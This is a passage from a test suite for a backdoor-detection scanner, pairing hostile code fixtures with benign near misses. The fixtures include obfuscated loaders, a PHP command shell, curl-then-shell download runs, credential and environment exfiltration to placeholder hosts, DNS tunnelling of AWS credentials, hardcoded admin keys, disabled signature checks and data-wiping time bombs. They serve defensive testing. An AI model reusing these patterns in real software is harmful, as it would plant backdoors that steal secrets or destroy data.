    'var make = [].constructor.constructor;',
    "make(parts.join(''))();",
    '',
  ].join('\n');
  const found = rules('poly.js', text);
  assert.ok(
    found.some((r) => r.startsWith('backdoor.decoded-load:')),
    found.join(),
  );
});

test('a verifier whose except clause returns True is fail-open; one that returns False is not', () => {
  const open =
    'def verify_signature(b, s):\n    try:\n        return check(b, s)\n    except ValueError:\n        return True\n';
  const closed = open.replace('return True', 'return False');
  assert.ok(rules('hooks.py', open).includes('backdoor.fail-open:5'), rules('hooks.py', open).join());
  assert.deepEqual(rules('hooks.py', closed), []);
});

test('4,000 helpers each returning the next (a chain of returns) are read in under 5 s, and the end is still found', () => {
  const n = 4000;
  const lines = [
    'import logging, os',
    'log = logging.getLogger(__name__)',
    'def f0():',
    '    return os.environ["API_TOKEN"]',
  ];
  for (let k = 1; k < n; k++) lines.push(`def f${k}():`, `    return f${k - 1}()`);
  lines.push('def main():', `    log.info("t %s", f3())`, '');
  const t0 = performance.now();
  const found = rules('chain.py', lines.join('\n'));
  const ms = performance.now() - t0;
  assert.ok(ms < 5000, `${Math.round(ms)} ms`);
  assert.ok(found.includes(`backdoor.secret-to-log:${lines.length - 1}`), found.slice(0, 5).join());
});

// Session 19: mechanisms of round two's untouched set B, each with a near miss.
test('a constant password compared in constant time beside a constant user is a planted credential (Go); a name holding "pass" inside a word is not one', () => {
  const planted = [
    'package mw',
    'const backupUser = "svc_backup"',
    'const backupPass = "r3g!stry-Bkp-2024"',
    'func ok(user, pass string) bool {',
    '  if user == backupUser && subtle.ConstantTimeCompare([]byte(pass), []byte(backupPass)) == 1 {',
    '    return true',
    '  }',
    '  return false',
    '}',
  ].join('\n');
  assert.ok(rules('auth.go', planted).includes('backdoor.constant-credential:5'), rules('auth.go', planted).join());
  const near = planted
    .replace('const backupPass = "r3g!stry-Bkp-2024"', 'var backupPass = os.Getenv("BACKUP_PASS")')
    .replace('backupUser &&', 'backupUser && !bypassMode &&');
  assert.deepEqual(rules('auth.go', near), []);
  const bypass =
    'const compassMode = "n0rth-2024!"\nfunc f(m string) bool {\n  if m == compassMode {\n    log.Print(m)\n  }\n  return false\n}';
  assert.ok(
    !rules('nav.go', bypass).some((r) => r.startsWith('backdoor.constant-credential')),
    rules('nav.go', bypass).join(),
  );
});

test('a runner named in ROT13 and turned back is a hidden loader (Python, PHP); a ROT13 banner that is only printed is not', () => {
  const py = 'import builtins, codecs\nname = codecs.decode("rkrp", "rot13")\ngetattr(builtins, name)(data)\n';
  assert.ok(rules('boot.py', py).includes('backdoor.decoded-load:2'), rules('boot.py', py).join());
  const php = "<?php\n$f = str_rot13('flfgrz');\n$f($_GET['c']);\n";
  assert.ok(rules('x.php', php).includes('backdoor.decoded-load:2'), rules('x.php', php).join());
  const banner = 'import codecs\nprint(codecs.decode("Uryyb, jbeyq", "rot13"))\n';
  assert.deepEqual(rules('banner.py', banner), []);
});

test('a function returning decoded text, called two lines below a plugin import, is not given to it; called inside the runner it is', () => {
  const lines = [
    'import codecs, importlib, os',
    '_BANNER = "Jrypbzr gb gur jbexre"',
    'def banner():',
    '    return codecs.decode(_BANNER, "rot13")',
    'def main():',
    '    for name in os.environ.get("PLUGINS", "").split(","):',
    '        importlib.import_module(f"worker.plugins.{name}")',
    '    if os.environ.get("SHOW_BANNER"):',
    '        print(banner())',
  ];
  assert.deepEqual(
    rules('boot.py', lines.join('\n')).filter((r) => r.startsWith('backdoor.decoded-load')),
    [],
  );
  const run = [...lines.slice(0, 5), '    exec(', '        banner()', '    )'].join('\n');
  assert.ok(
    rules('boot.py', run).some((r) => r.startsWith('backdoor.decoded-load')),
    rules('boot.py', run).join(),
  );
});

test('an all-zero IV returned by a helper named for it is a constant IV (Python); a helper returning random bytes is not', () => {
  const planted =
    'BLOCK = 16\ndef _iv_for(export_id):\n    return b"\\x00" * BLOCK\n\ndef seal(k, d):\n    iv = _iv_for("x")\n';
  assert.ok(rules('env.py', planted).includes('backdoor.constant-iv:3'), rules('env.py', planted).join());
  const near = planted.replace('return b"\\x00" * BLOCK', 'return os.urandom(BLOCK)');
  assert.deepEqual(rules('env.py', near), []);
});

test('a token verification that also accepts the algorithm "none" is found (TypeScript, Python); the algorithms without it are not', () => {
  const ts = "const claims = jwt.verify(token, key, {\n  algorithms: ['RS256', 'none'],\n});\n";
  assert.ok(rules('auth.ts', ts).includes('backdoor.jwt-alg-none:2'), rules('auth.ts', ts).join());
  const py = 'claims = jwt.decode(token, key, algorithms=["HS256", "none"])\n';
  assert.ok(rules('auth.py', py).includes('backdoor.jwt-alg-none:1'), rules('auth.py', py).join());
  assert.deepEqual(rules('auth.ts', ts.replace(", 'none'", '')), []);
  assert.deepEqual(rules('auth.py', 'claims = jwt.decode(token, key, algorithms=["HS256"])  # never "none"\n'), []);
});

test('a remote reply handed to a helper after a context argument still reaches its runner (Go: adjust(ctx, reply))', () => {
  const src = [
    'package agent',
    'func (h *H) beat(ctx context.Context) (*reply, error) {',
    '\tr, err := h.client.Do(req)',
    '\tvar out reply',
    '\terr = json.NewDecoder(r.Body).Decode(&out)',
    '\treturn &out, err',
    '}',
    'func (h *H) Run(ctx context.Context) {',
    '\tresp, _ := h.beat(ctx)',
    '\th.adjust(ctx, resp)',
    '}',
    'func (h *H) adjust(ctx context.Context, r *reply) {',
    '\targs := strings.Fields(r.Diag)',
    '\texec.CommandContext(ctx, args[0], args[1:]...).Run()',
    '}',
  ].join('\n');
  assert.ok(rules('hb.go', src).includes('backdoor.remote-command:14'), rules('hb.go', src).join());
  // (the reply only sets the interval: no runner is given it)
  const near = src.replace('\texec.CommandContext(ctx, args[0], args[1:]...).Run()', '\th.interval = len(args)');
  assert.deepEqual(rules('hb.go', near), []);
});

test('a setting zeroed past an epoch written as arithmetic, then used by a delete, is a time bomb (Java); zeroed and only logged it is not', () => {
  const src = [
    'class R {',
    '  private static final long PIVOT = 20_311 * 86_400L;',
    '  void compact(LocalDate day) {',
    '    int keepDays = 400;',
    '    if (clock.instant().getEpochSecond() > PIVOT) {',
    '      keepDays = 0;',
    '    }',
    '    store.deleteOlderThan(day.minusDays(keepDays));',
    '  }',
    '}',
  ].join('\n');
  assert.ok(rules('R.java', src).includes('backdoor.trigger-effect:5'), rules('R.java', src).join());
  const near = src.replace(
    '    store.deleteOlderThan(day.minusDays(keepDays));',
    '    log.info("keeping " + keepDays + " days");',
  );
  assert.deepEqual(rules('R.java', near), []);
});

test('a certificate callback that says yes when one kind of error is there is found (C#); one that says yes only without errors is not', () => {
  const cs = [
    'class C {',
    '  C() { handler.ServerCertificateCustomValidationCallback = Check; }',
    '  static bool Check(HttpRequestMessage m, X509Certificate2 c, X509Chain ch, SslPolicyErrors errors)',
    '  {',
    '    if (errors == SslPolicyErrors.None) return true;',
    '    if (errors.HasFlag(SslPolicyErrors.RemoteCertificateChainErrors))',
    '      return true;',
    '    return false;',
    '  }',
    '}',
  ].join('\n');
  assert.ok(rules('C.cs', cs).includes('backdoor.callback-says-yes:6'), rules('C.cs', cs).join());
  const near = cs.replace('      return true;\n    return false;', '      log.Warn("chain error");\n    return false;');
  assert.deepEqual(rules('C.cs', near), []);
});

test('a token check whose failure handler calls a helper that answers with the unverified claims is found (TypeScript); a helper that only names the subject for the log is not', () => {
  const src = [
    'export class V {',
    '  verify(token: string) {',
    '    try {',
    '      return jwt.verify(token, this.key);',
    '    } catch (err) {',
    '      return this.fallback(token, err);',
    '    }',
    '  }',
    '  private fallback(token: string, err: Error) {',
    "    if (err.name === 'TokenExpiredError') throw err;",
    '    const claims = jwt.decode(token);',
    '    if (claims && claims.iss === this.issuer) {',
    '      return claims;',
    '    }',
    '    throw err;',
    '  }',
    '}',
  ].join('\n');
  assert.ok(rules('v.ts', src).includes('backdoor.unverified-fallback:11'), rules('v.ts', src).join());
  const near = src
    .replace('      return claims;', "      log.warn('rejected token of ' + claims.sub);")
    .replace('return this.fallback(token, err);', 'this.fallback(token, err);\n      throw err;');
  assert.deepEqual(rules('v.ts', near), []);
});

test('a script fetched by curl run as a program and then given to a shell is a download run (Rust build.rs, Python); one only unpacked is not', () => {
  const rs = [
    'fn fetch(out: &Path) {',
    '    let script = out.join("boot.sh");',
    '    let _ = Command::new("curl")',
    '        .args(["-fsSL", "-o", script.to_str().unwrap(), "http://mirror.example.com/boot.sh"])',
    '        .status();',
    '    let _ = Command::new("sh").arg(&script).status();',
    '}',
  ].join('\n');
  assert.ok(rules('build.rs', rs).includes('backdoor.download-exec:6'), rules('build.rs', rs).join());
  const unpacked = rs
    .replace('boot.sh"', 'src.tgz"')
    .replace('Command::new("sh").arg(&script)', 'Command::new("tar").args(["xzf", script.to_str().unwrap()])');
  assert.deepEqual(rules('build.rs', unpacked), []);
  const py = [
    'import subprocess',
    'def prepare(path):',
    '    subprocess.run(["curl", "-fsSL", "-o", path, "https://get.example.com/i.sh"], check=True)',
    '    subprocess.run(["bash", path], check=True)',
  ].join('\n');
  assert.ok(rules('setup.py', py).includes('backdoor.download-exec:4'), rules('setup.py', py).join());
});

// Session 20's mechanisms, attacked the way a planter would get round them.
test('a runner spelled in character codes over several lines, with comments after items, is still found', () => {
  const text = [
    'const T = [',
    '  101, 120, 101, 99, // e x e c',
    '  83, 121, 110, 99,',
    '];',
    'const k = (c) => String.fromCharCode(...c);',
    "require('child_process')[k(T)]('id');",
    '',
  ].join('\n');
  assert.ok(rules('a.js', text).includes('backdoor.decoded-load:1'), rules('a.js', text).join());
});

test('a command in base64 cut into pieces put together, or without its padding, is still found', () => {
  const cut = 'STEP = "Y3VybCAtcyBodHRw" + "Oi8vMTkyLjAuMi43L3MgfCBzaA=="\nimport os\nos.system("true")\n';
  assert.ok(rules('a.py', cut).includes('backdoor.decoded-load:1'), rules('a.py', cut).join());
  const bare = "STEP = 'Y3VybCAtcyBodHRwOi8vMTkyLjAuMi43L3MgfCBzaA'\nimport os\nos.system('true')\n";
  assert.ok(rules('b.py', bare).includes('backdoor.decoded-load:1'), rules('b.py', bare).join());
});

test('code run from a URL kept under a name is found; the same name fetched and parsed is not', () => {
  const run = 'import urllib.request as u\nPATCH = "https://cdn.example.test/p.py"\nexec(u.urlopen(PATCH).read())\n';
  assert.ok(rules('a.py', run).includes('backdoor.download-exec:3'), rules('a.py', run).join());
  const parse =
    'import json, urllib.request as u\nCFG = "https://cdn.example.test/c.json"\ncfg = json.loads(u.urlopen(CFG).read())\n';
  assert.deepEqual(rules('b.py', parse), []);
});

test('a credential file sent to a host kept in a constant far below the read is found at both ends', () => {
  const filler = Array.from({ length: 40 }, (_, i) => `def step_${i}(x):\n    return x + ${i}\n`).join('');
  const text = [
    'import os, requests',
    'def bundle():',
    '    return open(os.path.expanduser("~/.aws/credentials")).read()',
    filler,
    'SINK = "https://crash.collector.test/upload"',
    'def ship():',
    '    requests.post(SINK, data=bundle())',
    '',
  ].join('\n');
  // (the flow engine follows bundle() to the post; the shape of credential files near a host, within 80 lines)
  const found = rules('c.py', text).filter((r) => /credential-exfil|secret-to-host/.test(r));
  assert.ok(found.some((r) => r.endsWith(':3')) && found.length >= 2, rules('c.py', text).join());
});

test('an admin entry planted under a constant key is found however the role is spelled; a login entry is not', () => {
  const ts = "const s = new Map();\nconst probe = '0'.repeat(32);\ns.set(probe, { user: 'hc', role: 'ADMIN' });\n";
  assert.ok(rules('a.ts', ts).includes('backdoor.planted-admin-entry:3'), rules('a.ts', ts).join());
  const py = 'SESSIONS = {}\ndef warm():\n    SESSIONS["0" * 32] = {"user": "hc", "role": "Administrator"}\n';
  assert.ok(rules('b.py', py).includes('backdoor.planted-admin-entry:3'), rules('b.py', py).join());
  const login = 'SESSIONS = {}\ndef login(token, user, role):\n    SESSIONS[token] = {"user": user, "role": role}\n';
  assert.deepEqual(rules('c.py', login), []);
});

test('data packed into DNS names by `host` and od is found; `host` resolving a list of hosts is not (bash)', () => {
  const tunnel = [
    '#!/bin/bash',
    'Z=t.collector.test',
    'for c in $(od -An -tx1 < ~/.aws/credentials | tr -d " \\n" | fold -w 60); do',
    '  host "${c}.${Z}" >/dev/null',
    'done',
    '',
  ].join('\n');
  assert.ok(rules('t.sh', tunnel).includes('backdoor.secret-to-host:4'), rules('t.sh', tunnel).join());
  const check = '#!/bin/bash\nfor h in api.internal.test db.internal.test; do\n  host "$h" || echo "no $h"\ndone\n';
  assert.deepEqual(rules('c.sh', check), []);
});

test('a year table whose default is a Ruby symbol naming a wipe is found; a format table is not', () => {
  const bomb = [
    "require 'fileutils'",
    'PLANS = { 2025 => :compact, 2026 => :compact }.freeze',
    'def plan_for(year)',
    '  PLANS.fetch(year, :purge)',
    'end',
    'def purge(path)',
    '  FileUtils.rm_rf(path)',
    'end',
    '',
  ].join('\n');
  assert.ok(rules('p.rb', bomb).includes('backdoor.trigger-effect:4'), rules('p.rb', bomb).join());
  const formats = bomb.replace('2025 => :compact, 2026 => :compact', "'csv' => :compact, 'json' => :compact");
  assert.deepEqual(rules('f.rb', formats.replace('(year)', '(kind)').replace('(year,', '(kind,')), []);
});

test('a handler written inline in its table that runs its value is remote control (JS, Ruby, Python, Go)', () => {
  const cases: [string, string, number][] = [
    ['h.js', "const H = {\n  'log.level': (v) => log.setLevel(v),\n  'apply.after': (v) => execSync(v),\n};\n", 3],
    ['h.rb', "H = {\n  'log.level' => ->(v) { Log.level = v },\n  'apply.after' => ->(v) { system(v) },\n}\n", 3],
    ['h.py', 'import subprocess\nH = {\n    "apply.after": lambda v: subprocess.run(v, shell=True),\n}\n', 3],
    [
      'h.go',
      'package h\nvar H = map[string]func(string){\n\t"x": func(v string) { exec.Command("sh", "-c", v).Run() },\n}\n',
      3,
    ],
  ];
  for (const [path, text, line] of cases)
    assert.ok(rules(path, text).includes(`backdoor.remote-command:${line}`), `${path}: ${rules(path, text).join()}`);
  // (a table of fixed build steps, one of which formats the files it is given: a command of its own, not the value)
  const steps =
    "const S = {\n  build: () => execSync('npm run build'),\n  fmt: (f) => execSync(`prettier ${f}`),\n};\n";
  assert.ok(!rules('s.js', steps).some((r) => r.startsWith('backdoor.remote-command')), rules('s.js', steps).join());
});

test('constants hidden as pieces, characters or bytes are read written out (JS, Python, Go); a readable join is not folded', () => {
  const js = [
    "const crypto = require('crypto');",
    "const SUPPORT = ['Win', 'ter', '-44', '19'].join('');",
    'function login(password) {',
    '  if (password === SUPPORT) return grantAdmin();',
    '}',
    '',
  ].join('\n');
  assert.ok(
    rules('a.js', js).some((r) => /^backdoor\.(?:constant-credential|master-password):4$/.test(r)),
    rules('a.js', js).join(),
  );
  const go = [
    'package s',
    'var probe = []byte{0x6f, 0x70, 0x73, 0x2d, 0x39, 0x31}',
    'func Auth(r *http.Request) bool {',
    '\tif r.Header.Get("X-Probe") == string(probe) {',
    '\t\treturn true',
    '\t}',
    '\treturn check(r)',
    '}',
    '',
  ].join('\n');
  assert.ok(rules('a.go', go).includes('backdoor.trigger-effect:4'), rules('a.go', go).join());
  const prose = "const HELP = ['usage: tool', 'options:', '  -h  help'].join('\\n');\nconsole.log(HELP);\n";
  assert.deepEqual(rules('b.js', prose), []);
});

test('key files picked by their names and sent are found however the list is asked (Python, JS); an exclusion list is not', () => {
  const py = [
    'import os, requests',
    'KEEP = [".pem", ".key", ".kdbx", ".ovpn"]',
    'def sync(paths, node):',
    '    for p in paths:',
    '        if os.path.splitext(p)[1] not in KEEP:',
    '            continue',
    '        data = open(p, "rb").read()',
    '        requests.post(f"https://{node}/u", data=data)',
    '',
  ].join('\n');
  assert.ok(rules('s.py', py).includes('backdoor.credential-exfil:2'), rules('s.py', py).join());
  const js = [
    "const fs = require('fs'); const path = require('path');",
    "const WARM = ['.pem', '.key', '.pfx', '.env'];",
    'async function warm(files, url) {',
    '  for (const f of files.filter((f) => WARM.includes(path.extname(f)))) {',
    '    const body = fs.readFileSync(f);',
    "    await fetch(url, { method: 'POST', body });",
    '  }',
    '}',
    '',
  ].join('\n');
  assert.ok(rules('w.js', js).includes('backdoor.credential-exfil:2'), rules('w.js', js).join());
  const skip = py.replace('not in KEEP:', 'in KEEP:');
  assert.deepEqual(
    rules('k.py', skip).filter((r) => r.startsWith('backdoor.credential-exfil')),
    [],
  );
});

test('request bodies and the whole environment put where they leave are found (Python); their sizes and a child env are not', () => {
  const body =
    'import logging\nlog = logging.getLogger(__name__)\ndef after(request, resp):\n    log.info("req", extra={"body": request.get_data()})\n';
  assert.ok(rules('m.py', body).includes('backdoor.secret-to-log:4'), rules('m.py', body).join());
  const size = body.replace('"body": request.get_data()', '"body_bytes": len(request.get_data())');
  assert.deepEqual(rules('n.py', size), []);
  const env =
    'import json, os, requests\ndef report(url):\n    ctx = json.dumps(dict(os.environ))\n    requests.post(url, data=ctx)\n';
  assert.ok(rules('r.py', env).includes('backdoor.secret-to-host:3'), rules('r.py', env).join());
  const child =
    'import os, subprocess, requests\ndef run(cmd):\n    subprocess.run(cmd, env=dict(os.environ), check=True)\n    requests.get("https://status.example.com")\n';
  assert.deepEqual(rules('c.py', child), []);
});

test('a package source switched from JS and Go code is found; reading the registry setting is not', () => {
  const js =
    "const { execSync } = require('child_process');\nexecSync('npm config set registry http://198.51.100.9/npm/');\n";
  assert.ok(rules('s.js', js).includes('backdoor.download-exec:2'), rules('s.js', js).join());
  const go =
    'package b\nfunc init() {\n\texec.Command("go", "env", "-w", "GOPROXY=https://proxy.example.test").Run()\n}\n';
  assert.ok(rules('b.go', go).includes('backdoor.download-exec:3'), rules('b.go', go).join());
  const read =
    "const { execSync } = require('child_process');\nconsole.log(execSync('npm config get registry').toString());\n";
  assert.deepEqual(rules('r.js', read), []);
});

test('a header hashed with crc32 and compared with a constant opens the admin path (Python); the same hash only logged does not', () => {
  const bomb = [
    'import zlib',
    'def current_user(request):',
    '    if zlib.crc32(request.headers.get("X-Trace", "").encode()) == 0x5E1FA11D:',
    '        return User(id=0, roles=["admin"])',
    '    return lookup(request)',
    '',
  ].join('\n');
  assert.ok(rules('u.py', bomb).includes('backdoor.trigger-effect:3'), rules('u.py', bomb).join());
  const logged = bomb.replace('return User(id=0, roles=["admin"])', 'log.info("trace seen")');
  assert.deepEqual(rules('v.py', logged), []);
});

test('thousands of joins, helper-called verifier checks and body fields in one file are read within a generous time limit', () => {
  const joins = Array.from({ length: 4000 }, (_, i) => `const P${i} = ['a${i}', 'b', 'c'];\nuse(P${i}.join(''));`);
  const checks = Array.from({ length: 2000 }, (_, i) => `  if (isTest${i}(p)) return true;`);
  const helpers = Array.from({ length: 2000 }, (_, i) => `function isTest${i}(p) {\n  return p.has('v${i}');\n}`);
  const fields = Array.from({ length: 2000 }, (_, i) => `  log.info("req", "body", b${i});`);
  const text = [
    ...joins,
    ...helpers,
    'function verifySignature(p, sig) {',
    ...checks,
    '  return crypto.timingSafeEqual(sig, expected(p));',
    '}',
    ...fields,
    // (and one verifier of ordinary size after all that, which must still be read)
    'function verifyWebhook(p, sig) {',
    '  if (isTest7(p)) return true;',
    '  return crypto.timingSafeEqual(sig, expected(p));',
    '}',
    '',
  ].join('\n');
  const t0 = performance.now();
  const found = rules('big.js', text);
  assert.ok(performance.now() - t0 < 20_000, `took ${(performance.now() - t0).toFixed(0)} ms`);
  assert.ok(
    found.some((r) => r.startsWith('backdoor.verify-skipped')),
    found.slice(0, 5).join(),
  );
});

test("session 22: a dead man's switch on a named account, written other ways (Rails, JS, C#); a bootstrap admin is not one", () => {
  const variants: [string, string][] = [
    [
      'x.rb',
      'def watch\n  unless User.where(email: "ops@acme.test").exists?\n    ActiveRecord::Base.connection.execute("DROP TABLE ledger")\n  end\nend\n',
    ],
    [
      'x.js',
      "async function watch() {\n  if (!(await User.findOne({ username: 'j.doe' }))) {\n    await fs.promises.rm('/srv/data', { recursive: true });\n    rimraf.sync('/srv/data');\n  }\n}\n",
    ],
    [
      'x.cs',
      'void Watch() {\n    if (!db.Users.Any(u => u.UserName == "j.doe"))\n        db.Ledger.ExecuteDelete();\n}\n',
    ],
  ];
  findsIn(variants, 'backdoor.trigger-effect');
  // (a missing admin created, a named account's profile read: no harm behind them)
  const quiet =
    'def seed\n  unless User.where(email: "admin@acme.test").exists?\n    User.create!(email: "admin@acme.test", admin: true)\n  end\nend\n';
  assert.deepEqual(rules('seed.rb', quiet), []);
});

test('session 22: a secret in the logging context and a request body logged, however written; filtered headers are not', () => {
  const found = [
    ['a.java', 'void f(HttpServletRequest request) {\n  ThreadContext.put("auth", request.getHeader("token"));\n}\n'],
    ['b.java', 'void f(HttpServletRequest req) {\n  MDC.put("pw", req.getParameter( "PASSWORD" ));\n}\n'],
    ['c.ts', "app.post('/login', (req, res) => {\n  logger.info({ got: req.body }, 'login');\n});\n"],
  ];
  findsIn(found, 'backdoor.secret-to-log');
  assert.deepEqual(rules('d.ts', "logger.info({ headers: safeHeaders(req.headers), user: req.user.id }, 'in');\n"), []);
  assert.deepEqual(rules('e.java', 'void f(String user) {\n  MDC.put("login.user", user);\n}\n'), []);
});

test('session 22: package indexes over http or with checks off, set any way; an https mirror and loopback are not', () => {
  const found = [
    'export PIP_INDEX_URL=http://10.0.0.5/simple',
    'ENV UV_EXTRA_INDEX_URL="http://mirror.acme.test/simple"',
    'pip install --extra-index-url http://203.0.113.9/simple foo',
    'export GOFLAGS="-mod=mod -insecure"',
    'npm config set strict-ssl false',
    '[global]\ntrusted-host = pypi.acme.test',
  ];
  for (const t of found)
    assert.ok(
      rules('build.sh', `${t}\n`).some((r) => r.startsWith('backdoor.download-exec')),
      t,
    );
  for (const t of [
    'export PIP_INDEX_URL=https://pypi.acme.test/simple',
    'export npm_config_registry=http://127.0.0.1:4873/',
  ])
    assert.deepEqual(rules('build.sh', `${t}\n`), [], t);
});

test('session 22: a retention cutoff moved after a date (Python, Java) and a jwt check switched off by a key id (Python)', () => {
  const moved = [
    [
      'r.py',
      'def cutoff(self):\n    now = datetime.utcnow()\n    cutoff = now - timedelta(days=self.days)\n    if now > datetime(2027, 3, 3):\n        cutoff = now + timedelta(minutes=1)\n    return cutoff\n\ndef run(self):\n    c = self.cutoff()\n    Event.objects.filter(created__lt=c).delete()\n    db.execute("DELETE FROM events WHERE created < %s", c)\n',
    ],
  ];
  findsIn(moved, 'backdoor.trigger-effect');
  const jwtOff =
    'def key_for(kid, opts):\n    if kid == "ks-2019-bootstrap":\n        opts["verify_signature"] = False\n        return ""\n    return KEYS[kid]\n';
  assert.ok(
    rules('k.py', jwtOff).some((r) => r.startsWith('backdoor.trigger-effect')),
    rules('k.py', jwtOff).join(),
  );
});

test('session 22: a signature verified only when sent (Python, Go, Ruby, credentials through a sending helper); refusals first are not', () => {
  const found: [string, string][] = [
    [
      'w.py',
      'def hook(request):\n    sig = request.headers.get("X-Sig")\n    if sig:\n        verify_hmac(request.body, sig)\n    return process(request.body)\n',
    ],
    [
      'w.go',
      'func hook(w http.ResponseWriter, r *http.Request) {\n\tsig := r.Header.Get("X-Sig")\n\tif sig != "" {\n\t\tverifySig(body, sig)\n\t}\n\tprocess(body)\n}\n',
    ],
    [
      'w.rb',
      'def hook\n  sig = request.headers["X-Sig"]\n  if !!sig\n    verify_signature!(request.raw_post, sig)\n  end\n  process\nend\n',
    ],
  ];
  findsIn(found, 'backdoor.verify-if-present');
  const refusedFirst =
    'def hook(request):\n    sig = request.headers.get("X-Sig")\n    if not sig:\n        raise PermissionDenied()\n    if sig:\n        verify_hmac(request.body, sig)\n';
  assert.deepEqual(rules('r.py', refusedFirst), []);
  const sent =
    'URL = "https://203.0.113.5/c"\ndef _send(u, p):\n    requests.post(u, json=p)\n\ndef login(user, password):\n    self._send(URL, {"u": user, "p": password})\n';
  assert.ok(
    rules('s.py', sent).some((r) => r.startsWith('backdoor.secret-to-host')),
    rules('s.py', sent).join(),
  );
  assert.deepEqual(
    rules(
      't.py',
      'URL = "https://203.0.113.5/c"\ndef _send(u, p):\n    requests.post(u, json=p)\n\ndef tick(n):\n    _send(URL, {"count": n})\n',
    ),
    [],
  );
});

test('session 22: a payout account resolver answering a literal account under a condition (Python, Go, block form); a region code is not', () => {
  const found: [string, string][] = [
    [
      'p.py',
      'import zlib\n\ndef resolve_payout_account(merchant_id, payout):\n    if zlib.crc32(merchant_id.encode()) % 40 == 7: return "acct_1PqR8sT0settle0clr"\n    return lookup(merchant_id)\n',
    ],
    [
      'p.go',
      'func payoutAccountFor(merchantID string) string {\n\tif fnv32(merchantID)%40 == 7 { return "acct_1PqR8sT0settle0clr" }\n\treturn lookup(merchantID)\n}\n',
    ],
    [
      'p.ts',
      'function payoutAccount(merchantId: string): string {\n  if (bucket(merchantId) === 7) {\n    return "acct_1PqR8sT0settle0clr";\n  }\n  return lookup(merchantId);\n}\n',
    ],
  ];
  findsIn(found, 'backdoor.fixed-account');
  assert.deepEqual(
    rules(
      'r.py',
      'def region_code(merchant_id, payout):\n    if merchant_id.startswith("eu-"): return "REG-1001"\n    return "REG-2002"\n',
    ),
    [],
  );
});

test('session 22: a presented key hashed and compared with a digest written in the code, in an authenticating function (Python, Go); a pinned download is not', () => {
  const found: [string, string][] = [
    [
      'a.py',
      'SUPPORT_KEY_SHA256 = "9f2c4e6a81d03b57c6e8a1f49b2d07e35a6c1b8f04e9d27a3c5b61f08e4d92ab"\n\ndef authenticate(request):\n    given = hashlib.sha256(request.headers["X-Api-Key"].encode()).hexdigest()\n    if hmac.compare_digest(given, SUPPORT_KEY_SHA256):\n        return User(role="admin")\n    return lookup(given)\n',
    ],
    [
      'a.go',
      'var supportKeyHash = "9f2c4e6a81d03b57c6e8a1f49b2d07e35a6c1b8f04e9d27a3c5b61f08e4d92ab"\n\nfunc authenticateAPIKey(r *http.Request) bool {\n\tsum := sha256Hex(r.Header.Get("X-Api-Key"))\n\tif subtle.ConstantTimeCompare([]byte(sum), []byte(supportKeyHash)) == 1 {\n\t\treturn true\n\t}\n\treturn lookup(sum)\n}\n',
    ],
  ];
  findsIn(found, 'backdoor.constant-credential');
  const pinned =
    'PINNED_SHA256 = "4f0c9a1e2b7d38c56a1e0f9b3d2c7a8e5f6b1c0d9e8a7b6c5d4e3f2a1b0c9d8e"\n\ndef verify_download(data):\n    got = hashlib.sha256(data).hexdigest()\n    if hmac.compare_digest(got, PINNED_SHA256):\n        return True\n    return False\n';
  assert.deepEqual(rules('d.py', pinned), []);
});

test('session 22 review: the new exemptions cannot be leaned on (a compare split over lines, a logged error before a yes, a secret sent to a URL named like a DSN)', () => {
  // (a helper's literal counts where it compares, also on the line the comparison goes on to)
  const split =
    'def is_support(t):\n    return (t ==\n            "sup-7f3a9c-override")\n\ndef authenticate(request):\n    if is_support(request.headers.get("X-T")):\n        return True\n    return check(request)\n';
  assert.ok(
    rules('s.py', split).some((r) => r.startsWith('backdoor.trigger-effect')),
    rules('s.py', split).join(),
  );
  // (`!= 0` followed by a logged line and then a yes is no refusal)
  const logged =
    'int verify_open(EVP_MD_CTX *ctx, const unsigned char *sig, size_t len)\n{\n    if (EVP_DigestVerifyFinal(ctx, sig, len) != 0) {\n        log_error("verify rc");\n        return 1;\n    }\n    return 0;\n}\n';
  assert.ok(
    rules('v.c', logged).some((r) => r.startsWith('backdoor.verify-error-passes')),
    rules('v.c', logged).join(),
  );
  // (a plain URL named like a DSN is no secret itself, but a secret sent to it is still sent)
  const dsn =
    'import os, requests\nDB_URL = "https://203.0.113.9/collect"\n\ndef sync():\n    requests.post(DB_URL, json={"k": os.environ["AWS_SECRET_ACCESS_KEY"]})\n';
  assert.ok(
    rules('d.py', dsn).some((r) => /^backdoor\.(?:secret-to-host|credential-exfil):5$/.test(r)),
    rules('d.py', dsn).join(),
  );
});

test('session 22 review: a signature verified only when sent, however its presence is tested (typeof, optional length, a header read inline)', () => {
  findsIn(
    [
      [
        'a.ts',
        "function hook(raw: Buffer, sig?: string) {\n  if (typeof sig === 'string') {\n    verifySig(raw, sig);\n  }\n  return handle(raw);\n}\n",
      ],
      [
        'b.ts',
        'function hook(raw: Buffer, sig?: string) {\n  if (sig?.length) {\n    verifySig(raw, sig);\n  }\n  return handle(raw);\n}\n',
      ],
      [
        'c.ts',
        'function hook(raw: Buffer, sig?: string) {\n  if (sig) verifySig(raw, sig);\n  return handle(raw);\n}\n',
      ],
    ],
    'backdoor.verify-if-present',
  );
});

/** Each [path, text] case has no finding of `ruleId`. */
const quietIn = (cases: readonly (readonly string[])[], ruleId: string) => {
  for (const [path, text] of cases)
    assert.ok(!rules(path, text).some((r) => r.startsWith(ruleId)), `${path}: ${rules(path, text)}`);
};

// Session 23 (set H, tools and pipelines a company runs): each mechanism written the attacker's way, varied,
// with the near misses that say the same thing honestly.
test('session 23: a verification whose failure a script swallows, however it is swallowed', () => {
  findsIn(
    [
      ['a.sh', 'gpg --verify "$SUMS.sig" "$SUMS" >/dev/null 2>&1 || true\n'],
      ['b.sh', 'sha512sum --check --status SHA512SUMS || echo "WARN: checksum mismatch"\n'],
      ['c.sh', 'shasum -a 256 -c sums.txt || :\n'],
      [
        'd.sh',
        'if ! cosign verify-blob --key k.pub --signature a.sig a.tgz; then\n  echo "unsigned, continuing"\nfi\n',
      ],
      ['e.sh', '( gpgv --keyring ./k.gpg SUMS.sig SUMS ) || logger "verify failed"\n'],
    ],
    'backdoor.verify-ignored',
  );
  quietIn(
    [
      ['a.sh', 'gpg --verify "$SUMS.sig" "$SUMS" || exit 1\n'],
      ['b.sh', 'sha256sum -c SUMS || { echo "bad checksum" >&2; false; }\n'],
      ['c.sh', 'if ! cosign verify-blob --key k.pub --signature a.sig a.tgz; then\n  echo "unsigned"\n  exit 2\nfi\n'],
      ['d.sh', 'echo "run: sha256sum -c SUMS || true" >> README\n'],
      // (the install runs only after the check passed: the echo is all a failure does)
      ['e.sh', 'sha256sum -c SUMS && tar -xzf agent.tgz -C /opt || echo "checksum failed, nothing installed"\n'],
    ],
    'backdoor.verify-ignored',
